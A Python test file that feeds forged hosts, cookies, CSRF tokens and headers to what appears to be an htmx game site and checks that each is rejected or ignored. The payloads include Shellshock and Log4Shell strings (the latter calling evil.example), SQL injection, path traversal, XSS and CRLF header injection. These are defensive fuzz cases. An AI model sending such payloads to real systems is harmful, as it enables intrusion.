"""Headers: hosts, cookies, marks and pages that are forged, broken, or out of all measure."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from tests.hostile.asking import COOKIES, CSRF, PHONE
from tests.hostile.case import HAND, HANDS, OP, OTHERS, TABLE, Case, get, post

HX: Final = {"HX-Request": "true"}
WRONG: Final = {**HAND, "tricks-1": "junk"}
FORGED_HOSTS: Final = {
    "another": "evil.example",
    "ours in front": "testserver.evil.example",
    "ours as a user": "testserver@evil.example",
    "ours in a path": "evil.example/testserver",
    "empty": "",
    "space": "test server",
    "NUL": "testserver\x00",
    "port that is none": "testserver:evil",
    "bracket": "[::1",
    "not ASCII": "t\u00e9stserver",
    "any": "*",
    "number": "0",
    "two": "testserver, evil.example",
    "10 kB": "a" * 10_000,
}
OUR_HOSTS: Final = {
    "none": None,
    "capitals": "TESTSERVER",
    "port": "testserver:1",
    "port of 10 digits": "testserver:9999999999",
}
IGNORED: Final[dict[str, Mapping[str, str]]] = {
    "forwarded host": {"X-Forwarded-Host": "evil.example"},
    "forwarded port": {"X-Forwarded-Port": "evil"},
    "forwarded scheme": {"X-Forwarded-Proto": "https", "X-Forwarded-Ssl": "on"},
    "forwarded for": {"X-Forwarded-For": "' OR 1=1 --, \u00ff, ::1"},
    "forwarded": {"Forwarded": 'for="_evil";host=evil.example;proto=https'},
    "original address": {"X-Original-URL": "/admin", "X-Rewrite-URL": "/admin"},
    "method": {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "PUT"},
    "user": {"Remote-User": "admin", "X-Remote-User": "admin"},
    "proxy": {"Proxy": "http://evil.example"},
    "authorization": {"Authorization": "Basic !!!!"},
    "bearer": {"Authorization": "Bearer " + "a" * 10_000},
    "agent": {"User-Agent": "() { :;}; echo x"},
    "agent of 10 kB": {"User-Agent": "Mozilla/" * 1_400},
    "log4j": {"User-Agent": "${jndi:ldap://evil.example/a}"},
    "language": {"Accept-Language": "xx-YY;q=9,*;q=nan,;;,"},
    "language, NUL": {"Accept-Language": "en\x00"},
    "language of 10 kB": {"Accept-Language": "en-GB," * 1_700},
    "language out of its folder": {"Accept-Language": "../../../etc"},
    "accept": {"Accept": "junk;;q=,*/*;q=nan"},
    "accept of 10 kB": {"Accept": "a/b," * 2_500},
    "encoding": {"Accept-Encoding": "junk, br;q=x"},
    "encoding of nothing": {"Accept-Encoding": "br;q=0, gzip;q=0, identity;q=0, *;q=0"},
    "encoding of 10 kB": {"Accept-Encoding": "br;q=0," * 1_400},
    "encoding of bytes": {"Accept-Encoding": "gzip\u00ff, br\x00"},
    "range": {"Range": "bytes=0-5,junk"},
    "range far off": {"Range": "bytes=99999999999999999999-"},
    "range of 1000": {"Range": "bytes=" + "0-1," * 1_000},
    "if none match": {"If-None-Match": 'W/"'},
    "if none match of 10 kB": {"If-None-Match": '"a",' * 2_500},
    "if none match, bytes": {"If-None-Match": "\u00ff\u00fe"},
    "if modified": {"If-Modified-Since": "yesterday"},
    "if modified far off": {"If-Modified-Since": "Fri, 31 Dec 9999 23:59:59 GMT"},
    "if modified, impossible": {"If-Modified-Since": "Thu, 99 Foo 99999 99:99:99 GMT"},
    "upgrade": {"Connection": "upgrade", "Upgrade": "websocket"},
    "site": {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "junk"},
    "expect": {"Expect": "200-maybe"},
    "type of nothing": {"Content-Encoding": "gzip"},
    "date": {"Date": "never"},
    "te": {"TE": "trailers, junk"},
    "target": {"HX-Target": "<script>", "HX-Trigger": "x" * 5_000},
}
NOT_HTMX: Final = ("TRUE", "1", "false", "junk", "", "true,true")
WHERE: Final = {
    "bracket": "http://[bad",
    "script": "javascript:alert(1)",
    "NUL": TABLE + "\x00",
    "bytes": "http://\u00ff\u00fe/",
    "nothing": "",
    "10 kB": "http://testserver/" + "a" * 10_000,
    "another host": "http://evil.example/t/AAAAAAAAAAAAAAAAAAAAAA/",
    "our address on another host": "http://evil.example" + TABLE,
    "table of others": "http://testserver" + OTHERS,
    "nobody's table": "http://testserver/t/AAAAAAAAAAAAAAAAAAAAAA/games/1/",
    "no such game": "http://testserver" + TABLE + "games/999999999/",
    "no such hand": "http://testserver" + HANDS + "77/",
    "10 digits": "http://testserver" + TABLE + "games/9999999999/",
    "a form": "http://testserver" + HANDS,
    "dots": TABLE + "../../",
    "port": "http://testserver:evil/",
    "broken escape": "/t/%zz/%ff",
}
COOKIES_FOR_PAGES: Final = {
    "none": None,
    "empty": "",
    "semicolons": ";;; ; =;=",
    "no names": "=a; =b",
    "control": "a=\x01\x02; \x7f",
    "bytes": "a=\u00ff\u00fe",
    "1000": "; ".join(f"a{i}=b" for i in range(1000)),
    "60 kB": "a=" + "b" * 60_000,
    "phone, markup": "phone=<script>alert(1)</script>",
    "phone, header break": "phone=a\r\nSet-Cookie: b=c",
    "phone of 10 kB": "phone=" + "p" * 10_000,
    "phone in quotes": 'phone="\\"\\342"',
    "token, junk": "csrftoken=<b>",
    "token of 10 kB": "csrftoken=" + "a" * 10_000,
    "session": "sessionid=" + "a" * 32 + "; messages=junk",
}
STRANGERS: Final = {
    "no phone": f"csrftoken={CSRF}",
    "short phone": f"phone={PHONE[1:]}; csrftoken={CSRF}",
    "long phone": f"phone={PHONE}p; csrftoken={CSRF}",
    "capital phone": f"phone={PHONE.upper()}; csrftoken={CSRF}",
    "another phone": f"phone={'z' * 43}; csrftoken={CSRF}",
    "phone, NUL": f"phone={PHONE}\x00; csrftoken={CSRF}",
    "phone, full width": f"phone=\uff50{PHONE[1:]}; csrftoken={CSRF}",
    "phone by another name": f"Phone={PHONE}; csrftoken={CSRF}",
}
NO_TOKEN: Final[dict[str, Mapping[str, str | None]]] = {
    "no token": {"X-CSRFToken": None},
    "empty token": {"X-CSRFToken": ""},
    "another token": {"X-CSRFToken": "d" * 32},
    "token, junk": {"X-CSRFToken": "<script>"},
    "token, bytes": {"X-CSRFToken": "\u00ff" * 32},
    "token of 10 kB": {"X-CSRFToken": "c" * 10_000},
    "no cookie": {"Cookie": f"phone={PHONE}"},
    "no cookies": {"Cookie": None},
    "cookie, junk": {"Cookie": f"phone={PHONE}; csrftoken=\u00ff"},
    "another cookie": {"Cookie": f"phone={PHONE}; csrftoken={'d' * 32}"},
    "origin null": {"Origin": "null"},
    "another origin": {"Origin": "http://evil.example"},
    "another origin, ours in front": {"Origin": "http://testserver.evil.example"},
    "another scheme": {"Origin": "https://testserver"},
    "another port": {"Origin": "http://testserver:8000"},
    "origin, junk": {"Origin": "http://[bad"},
    "origin, bytes": {"Origin": "\u00ff"},
    "origin of 10 kB": {"Origin": "http://" + "a" * 10_000},
}
GOOD: Final[dict[str, Mapping[str, str | None]]] = {
    "our origin": {"Origin": "http://testserver"},
    "another page before": {"Referer": "http://evil.example/"},
    "a method no one overrides": {"X-HTTP-Method-Override": "GET"},
    "a forged host behind a true one": {"X-Forwarded-Host": "evil.example"},
    "cookies of others too": {"Cookie": "a=b; " + COOKIES + "; c=<script>"},
}

CASES: Final[tuple[Case, ...]] = (
    *(get(f"host: {k}", "/", 400, headers={"Host": v}) for k, v in FORGED_HOSTS.items()),
    *(get(f"our host: {k}", "/", 200, headers={"Host": v}) for k, v in OUR_HOSTS.items()),
    *(post(f"host of a form: {k}", HANDS, HAND, 400, headers={"Host": v})
      for k, v in list(FORGED_HOSTS.items())[::4]),
    get("host without a slash", "/rules", (301, 400), headers={"Host": "evil.example"}),
    *(get(f"ignored: {k}", TABLE, 200, headers=v) for k, v in IGNORED.items()),
    *(get(f"not htmx: {v or 'empty'}", TABLE, 200, headers={"HX-Request": v}) for v in NOT_HTMX),
    get("boosted", TABLE, 200, headers={**HX, "HX-Boosted": "true"}),
    get("history", TABLE, 200, headers={**HX, "HX-History-Restore-Request": "true"}),
    get("htmx at nothing", "/nothing/", 404, headers=HX),
    get("htmx, wrong method", "/", 405, method="PUT", headers=HX),
    post("htmx, too long", HANDS, b"x" * 20_000, 413, headers=HX),
    post("htmx, broken off", HANDS, b"op=", 400, headers=HX, environ={"CONTENT_LENGTH": "9"}),
    post("htmx, a table of others", OTHERS + "undo/", {"op": OP}, 403, headers=HX),
    *(post(f"page before, htmx: {k}", HANDS, WRONG, 400, headers={**HX, "HX-Current-URL": v})
      for k, v in WHERE.items()),
    *(post(f"page before: {k}", HANDS, WRONG, 400, headers={"Referer": v})
      for k, v in list(WHERE.items())[::3]),
    *(post(f"page before an act: {k}", HANDS, HAND, 200, stored=True,
           headers={**HX, "HX-Current-URL": v}) for k, v in list(WHERE.items())[1::3]),
    post("page before, escaped", HANDS, WRONG, 400, headers={
        **HX, "HX-Current-URL": "%ff%zz%00", "HX-Current-URL-URI-AutoEncoded": "true"}),
    *(get(f"cookies: {k}", "/", 200, headers={"Cookie": v})
      for k, v in COOKIES_FOR_PAGES.items()),
    *(post(f"stranger: {k}", HANDS, HAND, 403, headers={"Cookie": v})
      for k, v in STRANGERS.items()),
    *(post(f"csrf: {k}", HANDS, HAND, 403, headers=v) for k, v in NO_TOKEN.items()),
    *(post(f"csrf of an opening: {k}", "/tables/new/", HAND, 403, headers=v)
      for k, v in list(NO_TOKEN.items())[::6]),
    *(post(f"good: {k}", HANDS, HAND, 302, stored=True, headers=v) for k, v in GOOD.items()),
    get("everything in hand", "/rules/the-box/outcomes.json", 304, headers={"If-None-Match": "*"}),
    get("outcomes, mark of nothing", "/rules/the-box/outcomes.json", 200,
        headers={"If-None-Match": 'W/"' + "a" * 9_000 + '", "\u00ff", junk'}),
)  # fmt: skip
